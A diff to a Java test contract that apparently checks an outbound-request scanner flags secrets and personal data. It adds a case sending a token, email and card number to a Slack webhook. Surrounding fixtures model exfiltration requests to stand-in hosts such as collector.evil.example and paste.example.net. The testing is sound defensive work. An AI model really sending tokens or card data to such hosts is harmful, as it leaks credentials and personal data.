@@ -89,6 +89,11 @@ abstract class SecretNeverPersistsContract {
         traceIds.add(expect(tenant.scan(Map.of("method", "POST", "url", "https://paste.example.net/new",
                 "body", Map.of("token", GITHUB_TOKEN, "owner", EMAIL, "card", CARD))),
                 "REQUIRE_APPROVAL", "SECRETS", "PII"));
+        // a value filed under the name beside it, a name that is itself personal data, and a table's cells
+        traceIds.add(expect(tenant.scan(Map.of("method", "POST", "url", "https://hooks.slack.com/services/T1/B1/y",
+                "body", Map.of("fields", List.of(Map.of("name", EMAIL, "value", GITHUB_TOKEN)),
+                        "sheet", "owner,token,card\n" + EMAIL + "," + GITHUB_TOKEN + "," + CARD + "\n"))),
+                "REQUIRE_APPROVAL", "SECRETS", "PII"));
         traceIds.add(expect(tenant.scan(Map.of("method", "GET",
                 "url", "https://collector.evil.example/upload?cc=" + CARD,
                 "headers", Map.of("Authorization", "Bearer " + GITHUB_TOKEN, "X-Mail", EMAIL))),
